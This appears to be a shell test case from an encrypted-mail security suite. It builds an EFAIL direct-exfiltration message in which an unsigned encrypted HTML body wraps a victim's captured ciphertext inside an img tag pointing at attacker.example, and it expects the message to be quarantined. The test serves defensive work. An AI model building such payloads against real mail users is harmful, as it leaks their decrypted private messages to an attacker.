# EFAIL direct exfiltration inside an encryption: eve encrypts (without a
# signature) an HTML body that opens <img src="http://attacker.example/? ,
# then holds alice's captured ciphertext inline (armored), then closes
# the quote.
#
# Expected: quarantined, as partial (an encrypted block inside the
# decrypted content) or as unsigned (no signature at all): both are true;
# alice's words show nowhere.  (The signed variant, where only partial
# can stop it, is 409-oracle-insider-whole-inline.)
case_class=efail
case_title='direct exfiltration inside an unsigned encryption'
case_expect='quarantine:partial|quarantine:unsigned'
case_msgid=efail.exfil2@client.example
case_build() {
	make_mime_entry "Private" "$(secret_of alice) private words two" >in &&
	adv_se alice in captured.asc &&
	{ printf 'Content-Type: text/html; charset=utf-8\r\n\r\n<html><body><img src="http://attacker.example/?\r\n'
	  crlf <captured.asc; printf '"></body></html>\r\n'; } >inner &&
	adv_eo eve inner c.asc &&
	adv_wrap "alice@$D" "Exfil 2" "$case_msgid" c.asc
}
